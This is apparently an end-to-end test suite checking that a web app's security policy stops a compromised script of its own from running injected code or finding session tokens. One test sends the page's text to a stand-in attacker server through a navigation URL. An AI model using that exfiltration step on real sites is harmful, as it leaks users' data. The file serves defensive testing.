import { attackIn, expect, test } from '../../support/injected.ts';
import { readStorage, readVariables } from '../../support/readable.ts';
import { attack, lookAround } from '../../support/own-script.ts';
import { tokensIn } from '../../support/tokens.ts';

/** Fewer, and a part of the attack has not been tried. */
const mostWaysIn = 20;

test.describe("a script of the app's own that has turned against it", () => {
  test(
    'makes no code of text, and loads none',
    { tag: '@core' },
    async ({ page, attackerPages, corruptScript, takePolicyOff, whatRan }) => {
      corruptScript(attack);
      await page.goto('/sign-in');
      const outcomes = await attackIn<Record<string, string>>(page);
      const names = Object.keys(outcomes);
      expect(names.filter((name) => outcomes[name] !== 'refused')).toEqual([]);
      expect(names.length).toBeGreaterThan(mostWaysIn);
      expect(await whatRan()).toEqual([]);
      expect(attackerPages.asked.map(({ url }) => url)).toEqual([]);

      takePolicyOff();
      await page.goto('/sign-in');
      const without = await attackIn<Record<string, string>>(page);
      // The attacker's server speaks no WebSocket, and has no worker of the app's origin to offer.
      expect(names.filter((name) => without[name] === 'refused')).toEqual([
        'a worker',
        'a service worker',
        'a picture',
        'a WebSocket',
      ]);
    },
  );

  test('finds no token, even without the policy', async ({
    page,
    context,
    signUp,
    attackerPages,
    corruptScript,
    takePolicyOff,
    wire,
  }) => {
    takePolicyOff();
    corruptScript(lookAround);
    await signUp();
    const seen = JSON.stringify(await attackIn(page));

    expect(seen).toContain('Ada Lovelace');
    expect(seen).toContain('"cookies":"","store":[]');
    expect(seen).not.toContain('set-cookie');
    expect(wire.cookieValues().length).toBeGreaterThan(1);
    for (const read of [seen, ...(await readVariables(page)), JSON.stringify(await readStorage(page))]) {
      expect(tokensIn(read, wire.cookieValues())).toEqual([]);
    }
    expect(await context.cookies()).toHaveLength(2);

    const attacker = attackerPages.addressOf('foreign', '/?seen=');
    await page.evaluate((to) => location.assign(to + encodeURIComponent(document.body.innerText)), attacker);
    await expect.poll(() => attackerPages.asked[0]?.url).toContain('Ada');
    expect(attackerPages.asked[0]?.headers).not.toHaveProperty('referer');
  });
});
